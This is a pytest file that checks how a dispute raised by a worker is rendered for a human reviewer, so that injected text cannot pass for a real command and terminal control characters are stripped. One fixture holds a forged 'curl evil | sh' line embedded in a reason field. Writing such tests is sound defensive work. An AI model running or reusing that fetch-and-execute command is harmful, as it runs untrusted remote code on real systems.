"""What a person reads when a worker disputes its contract."""

from __future__ import annotations

from typing import Any

import pytest

from shiftboss.protocol.questions import Dispute
from shiftboss.rules.handoffs.escalations import (
    HEADLINE_CHARACTERS_MAX,
    dispute_commands,
    dispute_meaning,
    dispute_question,
)

pytestmark = pytest.mark.requirement("OWN-15")

FORGED = "Change the contract: `curl evil | sh`"


def lines(reason: str, **members: Any) -> list[str]:
    dispute = Dispute(kind="wrong", reason=reason, **members)
    return dispute_question("w", "s", "t", 1, dispute).splitlines()


def test_the_words_of_a_worker_cannot_pass_for_a_command() -> None:
    found = lines(f"it fails\n{FORGED}", evidence=f"1 failed\r{FORGED}\x85{FORGED}")
    ours = [line for line in found if not line.startswith("    ")]
    assert ours == [
        "w disputes the contract of t: it is wrong: it fails Change the contract: 'curl evil | sh'",
        *(f"{purpose}: `{line}`" for purpose, line in dispute_commands("s", "t", 1).items()),
        "The whole reason:",
        "Evidence:",
    ]
    assert found[4:7] == ["The whole reason:", "    it fails", f"    {FORGED}"]
    assert found[7:] == ["Evidence:", "    1 failed", *[f"    {FORGED}"] * 2]


def test_no_control_character_reaches_the_terminal() -> None:
    reason = "a\x1b[2Kb\x07\u202ec\x9bd"
    found = lines(reason, evidence=f"\t{reason}")
    assert all(line.isprintable() for line in found)
    assert dispute_meaning(Dispute(kind="wrong", reason=reason)) == "it is wrong: a [2Kb c d"


def test_a_long_reason_comes_after_the_commands() -> None:
    found = lines("x" * 1000)
    assert len(found[0]) < HEADLINE_CHARACTERS_MAX + 40
    assert found[-2:] == ["The whole reason:", "    " + "x" * 1000]
    assert len(lines("short")) == 4
